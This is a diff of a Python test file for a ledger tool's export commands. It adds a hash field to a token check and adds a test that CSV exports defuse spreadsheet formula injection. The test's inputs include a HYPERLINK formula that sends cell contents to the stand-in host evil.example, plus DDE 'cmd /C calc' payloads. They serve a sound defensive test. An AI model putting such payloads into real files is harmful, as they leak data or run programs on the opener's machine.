@@ -214,9 +214,30 @@ def test_each_token_event_can_be_recomputed_from_the_export(
     chain = {row["seq"]: row for row in map(json.loads, out.splitlines())}
     for token in tokens:
         event = chain[token["event_seq"]]
-        record = {k: token[k] for k in ("id", "token_id", "action", "name", "role", "by", "scopes")}
+        fields = ("id", "token_id", "action", "name", "role", "by", "scopes", "token_sha256")
+        record = {k: token[k] for k in fields}
         record |= {k: datetime.fromisoformat(token[k]) if token[k] else None for k in ("at", "expires_at")}
         assert (event["kind"], event["subject"], event["hash"]) == ("token", token["id"], token["event_hash"])
         assert event["payload_digest"] == payload_digest("token", record)
     code, _, err = run(ledger, capsys, "export", "tokens", "--scope", "acme")
     assert code == 2 and "--scope does not apply to tokens" in err
+
+
+def test_csv_cells_an_agent_wrote_never_run_as_formulas_in_a_spreadsheet(
+    memory: Memory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An auditor opens the CSV in a spreadsheet: an input starting like a formula would run there
+    (send the sheet away, start a program). It is shown as text; JSON Lines keeps it exact."""
+    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")'
+    note = make_note(memory, payload, tags=["+cmd|' /C calc'!A0"])
+    memory.propose(note.id, "decision_rationale", "@SUM(1+1)*cmd|' /C calc'!A0", reason="r", proposer=LLM)
+    for kind, text_column in (("raw-logs", "text"), ("changes", "new_value"), ("proposals", "new_value")):
+        code, out, err = run(memory, capsys, "export", kind, "--format", "csv")
+        assert code == 0, err
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert "'" + payload in [row[text_column] for row in rows], kind
+        cells = [cell for row in rows for cell in row.values()]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], kind
+
+    code, out, _ = run(memory, capsys, "export", "raw-logs", "--format", "jsonl")
+    assert [json.loads(line)["text"] for line in out.splitlines()] == [payload]
